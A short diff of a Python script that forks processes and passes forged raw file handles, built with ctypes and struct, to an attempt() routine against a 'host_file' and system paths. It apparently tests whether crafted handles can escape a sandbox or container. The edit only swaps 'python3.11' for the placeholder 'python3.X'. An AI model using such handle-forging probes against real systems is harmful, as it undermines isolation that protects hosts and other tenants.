@@ -22,7 +22,7 @@ def attempt(path, handle):
     os.wait()
 
 
-for path in (context["host_file"], "/usr/lib/python3.11", "/"):
+for path in (context["host_file"], "/usr/lib/python3.X", "/"):
     place = os.path.dirname(path)
     if os.fork() == 0:
         named = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
@@ -33,5 +33,5 @@ for path in (context["host_file"], "/usr/lib/python3.11", "/"):
         os._exit(0)
     os.wait()
 root_of_many_file_systems = struct.pack("<IiII", 8, FILE_ID_UNCONNECTABLE, 2, 0)
-for path in ("/usr/lib/python3.11", "/dev/null", "/tmp"):
+for path in ("/usr/lib/python3.X", "/dev/null", "/tmp"):
     attempt(path, root_of_many_file_systems)
